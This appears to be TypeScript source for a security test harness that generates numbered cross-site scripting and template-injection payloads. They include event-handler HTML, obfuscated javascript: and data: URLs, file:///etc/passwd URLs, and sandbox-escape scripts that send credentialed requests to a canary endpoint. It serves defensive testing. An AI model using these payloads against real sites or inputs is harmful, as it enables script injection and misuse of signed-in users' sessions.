import { markupPayloads, svgPayloads } from './markup.ts'
import { program, type Numbering, type Payload } from './payload.ts'

/** What a template engine would run, if there were one. */
const TEMPLATES: Readonly<Record<string, (code: string) => string>> = {
  braces: (code) => `{{constructor.constructor('${code}')()}}`,
  'braces with a filter': (code) => `{{'a'.constructor.prototype.charAt=[].join;$eval('${code}')}}`,
  dollar: (code) => `\${${code}}`,
  hash: (code) => `#{${code}}`,
  'percent signs': (code) => `<%= ${code} %>`,
  'placeholder of ours': (code) => `{{device}}{{screen.constructor.constructor("${code}")()}}`,
  'placeholder in a placeholder': (code) => `{{date:{{${code}}}}}`,
  prototype: (code) => `{{__proto__}}{{constructor}}{{${code}}}`,
}

/** Every n-th of the markup, with numbers of its own: it is what words would be if they were read as markup. */
function asWords(kind: 'text' | 'name', next: Numbering, step: number, longest: number): Payload[] {
  const made = [...markupPayloads(next), ...svgPayloads(next)].filter(
    ({ text, old }) => !old && text.length <= longest,
  )
  return made.filter((_, index) => index % step === 0).map((payload) => ({ ...payload, class: kind }))
}

/** What fits where there is room for forty characters. */
const SHORT: Readonly<Record<string, (code: string) => string>> = {
  'short image': (code) => `<img src=x: onerror=${code}>`,
  'short drawing': (code) => `<svg onload=${code}>`,
  'short script': (code) => `<script>${code}</script>`,
  'short frame': (code) => `<iframe onload=${code}>`,
  'short style': (code) => `<style onload=${code}>`,
}

/** What is typed into texts, cells of tables, alternative texts and codes to scan. */
export function textPayloads(next: Numbering): Payload[] {
  const templates = Object.entries(TEMPLATES).map(([base, make]): Payload => {
    const number = next()
    return { number, class: 'text', base, disguise: 'template', text: make(program(number)), old: true }
  })
  return [...asWords('text', next, 4, 600), ...templates]
}

/** Names of slides, folders, files, tags, screens, zones, ads, displays and people. */
export function namePayloads(next: Numbering): Payload[] {
  const short = Object.entries(SHORT).map(([base, make]): Payload => {
    const number = next()
    return { number, class: 'name', base, disguise: 'short', text: make(`top.canary(${number})`) }
  })
  return [...asWords('name', next, 4, 180), ...short]
}

/** Addresses that run a program where they are followed or framed. */
export function addressPayloads(next: Numbering): Payload[] {
  const running: Readonly<Record<string, (code: string) => string>> = {
    plain: (code) => `javascript:${code}`,
    capitals: (code) => `JaVaScRiPt:${code}`,
    'space before it': (code) => `  javascript:${code}`,
    'control sign before it': (code) => `\u0001javascript:${code}`,
    'tab in it': (code) => `java\tscript:${code}`,
    'line in it': (code) => `java\nscript:${code}`,
    'line before the colon': (code) => `javascript\r\n:${code}`,
    'like a host': (code) => `javascript://example.com/%0a${code}`,
    'like a host with https': (code) => `javascript:/*https://example.com/*/${code}`,
    'escaped program': (code) => `javascript:${encodeURIComponent(code)}`,
    'void before it': (code) => `javascript:void(0);${code}`,
    'after a remark': (code) => `javascript:/**/${code}//https://example.com`,
  }
  const old: Readonly<Record<string, (code: string) => string>> = {
    'page of data': (code) => `data:text/html,<script>${code}</script>`,
    'page of data in base64': (code) =>
      `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
    'drawing of data': (code) =>
      `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
    'other language': (code) => `vbscript:${code}`,
    'old language': (code) => `livescript:${code}`,
    'source view': (code) => `view-source:javascript:${code}`,
    'file of the display': (code) => `file:///etc/passwd?${code}`,
    'its own origin again': (code) => `blob:javascript:${code}`,
    archive: (code) => `jar:javascript:${code}!/`,
    'wrong slashes': (code) => `https:javascript:${code}`,
    'no host': (code) => `https://\tjavascript:${code}`,
    'empty frame': (code) => `about:blank#${code}`,
  }
  const payloads: Payload[] = []
  for (const [group, isOld] of [
    [running, false],
    [old, true],
  ] as const)
    for (const [base, make] of Object.entries(group))
      for (let round = 0; round < 4; round += 1) {
        const number = next()
        const text = make(program(number))
        payloads.push({
          number,
          class: 'address',
          base,
          disguise: String(round),
          text,
          ...(isOld ? { old: true } : {}),
        })
      }
  return payloads
}

/**
 * Programs that try to get out of the sandbox of scripts: to the page, or to the server as whoever is signed in. They
 * call the canary of the page, or ask the server for `/default/v1/canary-<number>`.
 */
export function scriptPayloads(next: Numbering, origin: string): Payload[] {
  const address = (number: number): string => `'${origin}/default/v1/canary-${number}'`
  const tries: Readonly<Record<string, (number: number) => string>> = {
    top: (number) => `top.canary(${number})`,
    parent: (number) => `parent.canary(${number})`,
    self: (number) => `self.parent.parent.canary(${number})`,
    window: (number) => `window.top.canary(${number})`,
    frames: (number) => `frames.top.canary(${number})`,
    'constructor of an array': (number) => `[].constructor.constructor('return top')().canary(${number})`,
    'function of another kind': (number) => `(async()=>{}).constructor('top.canary(${number})')()`,
    'generator of another kind': (number) => `(function*(){}).constructor('top.canary(${number})')().next()`,
    evaluated: (number) => `(0,eval)('top.canary(${number})')`,
    timer: (number) => `setTimeout('top.canary(${number})')`,
    'error that knows': (number) =>
      `try{null.x}catch(e){e.constructor.constructor('top.canary(${number})')()}`,
    'prototype of a message': (number) =>
      `Object.getPrototypeOf(Object.getPrototypeOf(self)).constructor.constructor('top.canary(${number})')()`,
    fetched: (number) => `fetch(${address(number)},{credentials:'include'}).catch(()=>{})`,
    'fetched without a word': (number) =>
      `fetch(${address(number)},{mode:'no-cors',credentials:'include'}).catch(()=>{})`,
    'asked the old way': (number) =>
      `{const x=new XMLHttpRequest();x.open('GET',${address(number)});x.withCredentials=true;x.send()}`,
    beacon: (number) => `navigator.sendBeacon(${address(number)},'x')`,
    stream: (number) => `new EventSource(${address(number)},{withCredentials:true})`,
    'imported later': (number) => `import(${address(number)}).catch(()=>{})`,
    request: (number) => `fetch(new Request(${address(number)},{credentials:'include'})).catch(()=>{})`,
    'a thread of its own': (number) =>
      `new Worker(URL.createObjectURL(new Blob(["fetch(\\"${origin}/default/v1/canary-${number}\\").catch(()=>{})"])))`,
  }
  const spellings: Readonly<Record<string, (code: string) => string>> = {
    plain: (code) => code,
    'in a function': (code) => `(function(){${code}})()`,
    'a moment later': (code) => `setTimeout(function(){try{${code}}catch(e){}},5)`,
  }
  const payloads: Payload[] = []
  for (const [base, make] of Object.entries(tries))
    for (const [disguise, spell] of Object.entries(spellings)) {
      const number = next()
      payloads.push({ number, class: 'script', base, disguise, text: spell(make(number)) })
    }
  return payloads
}
